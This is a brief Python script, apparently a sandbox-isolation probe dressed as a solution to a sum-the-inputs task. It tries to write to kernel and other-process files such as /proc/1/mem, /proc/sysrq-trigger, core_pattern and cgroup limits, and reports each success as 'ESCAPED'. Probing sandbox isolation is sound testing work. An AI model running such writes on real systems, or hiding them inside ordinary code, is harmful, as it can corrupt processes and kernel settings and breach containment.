# what = "Writes to the files of other processes and of the kernel in /proc and /sys."

import glob
import os
import sys

paths = [f"/proc/{pid}/{name}" for pid in (1, os.getppid()) for name in ("mem", "oom_score_adj", "comm", "clear_refs")]
paths += ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches"]
paths += glob.glob("/proc/sys/net/ipv4/tcp_*") + glob.glob("/sys/fs/cgroup/**/*.procs", recursive=True)
paths += glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True) + ["/proc/self/uid_map", "/dev/kmsg"]
for path in paths:
    try:
        descriptor = os.open(path, os.O_WRONLY)
        os.write(descriptor, b"0")
        print("ESCAPED", path, file=sys.stderr)
    except OSError:
        pass

print(sum(map(int, input().split())))
